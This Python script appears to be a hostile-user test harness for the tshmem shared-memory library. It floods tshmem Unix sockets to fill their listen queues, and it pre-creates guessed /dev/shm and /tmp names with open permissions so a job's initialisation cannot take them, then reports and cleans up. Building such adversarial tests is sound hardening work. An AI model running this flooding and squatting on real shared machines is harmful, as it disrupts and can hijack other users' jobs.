#!/usr/bin/env python3
"""Another local user, attacking a tshmem job's init: run as a different uid until SIGTERM.

In a tight loop it connects (and keeps the connections open, filling listen queues) to every Unix socket
whose name contains "tshmem" (filesystem or abstract, read from /proc/net/unix) and to the socket names a
tshmem directory in /tmp would hold (<dir>/0 .. <dir>/7); it squats the sibling names of every
/dev/shm/tshmem.<job>.<pe> segment it sees (what an earlier tshmem created, one PE at a time), and random
/tmp/tshmem-* and /dev/shm/tshmem.* names. At SIGTERM it prints what it achieved and removes what it made."""
import os
import random
import signal
import socket
import string
import sys

attempts = accepted = squatted = 0
held = []
created = []
running = True


def stop(*_):
    global running
    running = False


signal.signal(signal.SIGTERM, stop)


def tshmem_sockets():
    names = set()
    try:
        with open("/proc/net/unix") as table:
            next(table)
            for line in table:
                fields = line.split()
                if len(fields) >= 8 and "tshmem" in fields[7]:
                    names.add(fields[7])
    except OSError:
        pass
    try:
        for entry in os.scandir("/tmp"):
            if entry.name.startswith("tshmem-") and entry.path not in created:
                names.update(f"{entry.path}/{rank}" for rank in range(8))
    except OSError:
        pass
    return names


def squat_siblings():
    """Old tshmem named PE p's segment /dev/shm/tshmem.<job>.<p>: seeing one, take the others."""
    global squatted
    try:
        seen = [name for name in os.listdir("/dev/shm") if name.startswith("tshmem.")]
    except OSError:
        return
    for name in seen:
        parts = name.split(".")
        if len(parts) != 3:
            continue
        for pe in range(8):
            path = f"/dev/shm/tshmem.{parts[1]}.{pe}"
            try:
                os.close(os.open(path, os.O_CREAT | os.O_EXCL | os.O_RDWR, 0o666))
                created.append(path)
                squatted += 1
            except OSError:
                pass


def squat():
    global squatted
    tag = "".join(random.choice(string.ascii_letters + string.digits) for _ in range(6))
    for path, make in ((f"/tmp/tshmem-{tag}", lambda p: os.mkdir(p, 0o777)),
                       (f"/dev/shm/tshmem.{random.getrandbits(64):016x}.{random.randrange(4)}",
                        lambda p: os.close(os.open(p, os.O_CREAT | os.O_EXCL | os.O_RDWR, 0o666)))):
        try:
            make(path)
            created.append(path)
            squatted += 1
        except OSError:
            pass


while running:
    for name in tshmem_sockets():
        address = "\0" + name[1:] if name.startswith("@") else name
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.setblocking(False)
        attempts += 1
        try:
            s.connect(address)
            accepted += 1
            held.append(s)
        except BlockingIOError:
            held.append(s)  # queued: it occupies the backlog all the same
            accepted += 1
        except OSError:
            s.close()
    squat_siblings()
    if len(created) < 200:
        squat()

for s in held:
    s.close()
for path in created:
    try:
        os.rmdir(path) if os.path.isdir(path) else os.unlink(path)
    except OSError:
        pass
print(f"hostile uid {os.getuid()}: {attempts} connection attempts, {accepted} reached a tshmem socket, "
      f"{squatted} names squatted")
sys.stdout.flush()
